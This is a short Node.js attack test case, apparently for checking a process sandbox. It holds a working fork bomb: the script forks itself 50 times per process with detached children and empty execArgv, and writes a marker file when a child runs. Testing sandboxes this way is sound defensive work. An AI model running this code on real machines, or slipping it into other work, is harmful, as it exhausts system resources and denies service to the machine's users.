/* @attack {"title": "fork bomb of node processes: fork the sleeve itself in a loop with execArgv []"} */
import { fork } from 'node:child_process';
import fs from 'node:fs';
if (process.argv[2] === '--bomb') fs.writeFileSync(process.env.TMP_MARKER, 'a bomb child ran\n');
const errors = [];
for (let i = 0; i < 50; i++) {
  try {
    fork(process.argv[1], ['--bomb'], { execArgv: [], stdio: 'ignore', detached: true }).unref();
  } catch (error) {
    errors.push(error);
  }
}
if (errors.length > 0) throw errors[0];
